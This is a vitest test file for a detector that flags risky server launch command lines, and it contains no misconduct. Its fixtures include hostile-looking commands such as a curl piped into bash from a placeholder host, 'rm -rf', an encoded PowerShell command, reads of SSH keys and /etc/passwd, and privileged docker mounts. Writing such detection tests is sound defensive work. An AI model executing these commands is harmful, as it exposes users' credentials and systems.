import { describe, expect, it } from 'vitest';
import { Concern, concerns } from '../../../src/core/launch/concerns.ts';

const found = (line: readonly string[]) => concerns(line).map((m) => m.concern);

describe('what is remarkable about a command line', () => {
  it.each<[Concern, readonly string[]]>([
    [Concern.shell, ['/bin/bash', '-c', 'node server.js']],
    [Concern.shell, ['cmd.exe', '/c', 'start']],
    [Concern.pipeToShell, ['sh', '-c', 'curl -s https://x.example | bash']],
    [Concern.download, ['sh', '-lc', 'wget https://x.example/a']],
    [Concern.privileged, ['sudo', 'node', 'server.js']],
    [Concern.privileged, ['sh', '-c', 'sudo node server.js']],
    [Concern.deletes, ['bash', '-c', 'rm -rf ~/x']],
    [Concern.inlineCode, ['node', '-e', 'x()']],
    [Concern.inlineCode, ['/usr/bin/python3', '-c', 'x()']],
    [Concern.encoded, ['powershell', '-EncodedCommand', 'ZQ==']],
    [Concern.sensitivePath, ['server', '/home/me/.ssh/id_rsa']],
    [Concern.sensitivePath, ['server', '--config=/etc/passwd']],
    [Concern.sensitivePath, ['server', '.env']],
    [Concern.wholeHome, ['server-filesystem', '/home/me']],
    [Concern.wholeHome, ['server-filesystem', '~']],
    [Concern.wholeDisk, ['server-filesystem', '/']],
    [Concern.container, ['docker', 'run', '-v', '/:/host', 'image@sha256:' + 'a'.repeat(64)]],
    [Concern.container, ['docker', 'run', '--privileged', 'image']],
    [Concern.versionNotFixed, ['npx', '-y', '@modelcontextprotocol/server-github']],
    [Concern.versionNotFixed, ['npx', '-y', 'server@latest']],
    [Concern.versionNotFixed, ['uvx', 'mcp-server-git']],
    [Concern.versionNotFixed, ['docker', 'run', 'mcp/git:latest']],
    [Concern.remoteInstall, ['npx', '-y', 'github:someone/server']],
    [Concern.remoteInstall, ['uvx', '--from', 'git+https://x.example/a', 'server']],
  ])('names %s in %j', (concern, line) => {
    expect(found(line)).toContain(concern);
  });

  it.each([
    [['node', '/opt/servers/files/index.js', '/srv/project']],
    [['npx', '-y', '@scope/server@1.2.3']],
    [['uvx', 'mcp-server-git==2.0.1', '--repository', '.']],
    [['docker', 'run', '-i', '--rm', 'mcp/git:1.4.2']],
    [['python3', '-m', 'mcp_server']],
    [['server', '--environment', 'production', '--shell', 'bash']],
    [['server', '/srv/environments/app', 'docs/etc.md']],
  ])('says nothing about %j', (line) => {
    expect(found(line)).toEqual([]);
  });

  it('calls an open version a neutral notice, never a warning', () => {
    const [mark] = concerns(['npx', '-y', 'server']);
    expect(mark).toEqual({ concern: Concern.versionNotFixed, word: 2, tone: 'notice' });
  });
});
